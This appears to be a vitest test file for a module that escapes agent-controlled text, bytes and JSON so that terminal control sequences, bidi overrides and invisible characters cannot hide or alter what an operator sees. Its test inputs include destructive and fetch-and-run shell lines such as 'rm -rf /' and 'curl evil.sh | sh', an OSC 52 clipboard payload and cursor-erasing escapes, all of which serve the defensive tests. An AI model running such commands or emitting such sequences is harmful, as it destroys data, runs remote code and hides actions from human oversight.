import { describe, expect, it } from "vitest";
import { escapeBytes, escapeText, safeLine, toSafeJson } from "../../../runtime/operator/escape.js";

/** Anything a terminal could act on, or that could reorder or hide text. */
/* eslint-disable no-control-regex -- control characters are exactly what this test looks for */
const DANGEROUS =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufff9-\ufffb]|[\ud800-\udfff]/u;
/* eslint-enable no-control-regex */

describe("escapeText: agent-controlled text made safe for a terminal", () => {
  it("CSI cursor-up and erase-line cannot hide the line above: ESC is printed as the text \\x1b", () => {
    const hostile = "+rm -rf /\n\x1b[1A\x1b[2K+echo harmless\n";
    const e = escapeText(hostile);
    expect(e.text).toBe("+rm -rf /\n\\x1b[1A\\x1b[2K+echo harmless\n");
    expect(e.escaped).toBe(2);
    expect(e.text).not.toMatch(DANGEROUS);
  });

  it("a carriage return cannot overwrite a line", () => {
    expect(escapeText("curl evil.sh | sh\r# comment      ").text).toBe("curl evil.sh | sh\\r# comment      ");
  });

  it("OSC 8 hyperlinks and OSC 52 clipboard writes are shown, not executed (ESC, BEL and ST escaped)", () => {
    const osc8 = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\";
    expect(escapeText(osc8).text).toBe("\\x1b]8;;https://evil.example/\\x1b\\click\\x1b]8;;\\x1b\\");
    const osc52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07";
    expect(escapeText(osc52).text).toBe("\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07");
    expect(escapeText(osc52).escaped).toBe(2);
  });

  it("C1 controls (the one-character CSI U+009B, NEL, OSC U+009D) are escaped", () => {
    const e = escapeText("a\u009b2Kb\u0085c\u009d0;title\u009c");
    expect(e.text).toBe("a\\u009b2Kb\\u0085c\\u009d0;title\\u009c");
    expect(e.escaped).toBe(4);
  });

  it("bidirectional overrides, embeddings, isolates and marks are flagged loudly and counted", () => {
    // "Trojan Source": the stored order differs from the displayed one.
    const src =
      "if (isAdmin) {\u202e } \u2066// check later\u2069 \u2067x\u2069 \u2068y\u2069 \u202ab\u202c \u202bc\u202c \u202dd\u202c \u200e\u200f\u061c";
    const e = escapeText(src);
    expect(e.bidi).toBe(16);
    expect(e.text).toContain("[BIDI U+202E RLO]");
    expect(e.text).toContain("[BIDI U+2066 LRI]");
    expect(e.text).toContain("[BIDI U+2069 PDI]");
    expect(e.text).toContain("[BIDI U+061C ALM]");
    expect(e.text).not.toMatch(DANGEROUS);
  });

  it("invisible characters and line/paragraph separators are shown as \\uXXXX; newline and tab pass", () => {
    const e = escapeText("a\u200bb\ufeffc\u2028d\u2029e\u00adf\tg\nh");
    expect(e.text).toBe("a\\u200bb\\ufeffc\\u2028d\\u2029e\\u00adf\tg\nh");
    expect(e.escaped).toBe(5);
  });

  it("single-line mode escapes newline and tab too (a log field cannot fake another log line)", () => {
    expect(safeLine("ok\n2026-11-29T00:00:00Z agent-1 info task-done\tx")).toBe(
      "ok\\n2026-11-29T00:00:00Z agent-1 info task-done\\tx",
    );
  });

  it("ordinary text, including non-Latin scripts and emoji, is unchanged", () => {
    const s = "héllo — 日本語 العربية 🙂 \\x1b stays text\n";
    expect(escapeText(s)).toEqual({ text: s, escaped: 0, bidi: 0 });
  });

  it("lone surrogates are escaped; pairs are kept", () => {
    expect(escapeText("a\ud800b\udc00c\ud83d\ude42").text).toBe("a\\ud800b\\udc00c\ud83d\ude42");
  });

  it("no BMP code point survives in a dangerous form", () => {
    for (let cp = 0; cp <= 0xffff; cp++) {
      const out = escapeText(`x${String.fromCharCode(cp)}y`).text;
      expect(DANGEROUS.test(out), `U+${cp.toString(16)}`).toBe(false);
    }
  });
});

describe("escapeBytes: invalid UTF-8 is shown byte by byte", () => {
  const bytes = (...b: number[]) => Uint8Array.from(b);

  it("stray, overlong, truncated and surrogate sequences become \\xNN; valid sequences decode", () => {
    expect(escapeBytes(bytes(0x61, 0xff, 0x62)).text).toBe("a\\xffb");
    expect(escapeBytes(bytes(0xc0, 0xaf)).text).toBe("\\xc0\\xaf"); // overlong "/"
    expect(escapeBytes(bytes(0xe0, 0x80, 0xaf)).text).toBe("\\xe0\\x80\\xaf"); // overlong 3-byte
    expect(escapeBytes(bytes(0xe2, 0x80)).text).toBe("\\xe2\\x80"); // truncated at the end
    expect(escapeBytes(bytes(0xe2, 0x80, 0x41)).text).toBe("\\xe2\\x80A"); // truncated mid-text
    expect(escapeBytes(bytes(0xed, 0xa0, 0x80)).text).toBe("\\xed\\xa0\\x80"); // UTF-16 surrogate
    expect(escapeBytes(bytes(0xf4, 0x90, 0x80, 0x80)).text).toBe("\\xf4\\x90\\x80\\x80"); // above U+10FFFF
    expect(escapeBytes(Buffer.from("é🙂\n")).text).toBe("é🙂\n");
  });

  it("a UTF-8-encoded C1 control, bidi override or ESC is escaped like in text", () => {
    const e = escapeBytes(Buffer.from("+x\u009b\u202e\x1b[31m\n"));
    expect(e.text).toBe("+x\\u009b[BIDI U+202E RLO]\\x1b[31m\n");
    expect(e).toMatchObject({ escaped: 2, bidi: 1 });
  });
});

describe("toSafeJson", () => {
  it("escapes DEL, C1, bidi controls, U+2028/2029 and invisible characters, and parses back to the same value", () => {
    const v = { title: "a\x1b[2Kb\x7f\u009b\u202e\u2066\u2028\u2029\u200b\ufeff", n: [1, "ok"] };
    const json = toSafeJson(v, 2);
    expect(json).not.toMatch(DANGEROUS);
    expect(json).toContain("\\u202e");
    expect(json).toContain("\\u2028");
    expect(json).toContain("\\u001b");
    expect(JSON.parse(json)).toEqual(v);
  });
});
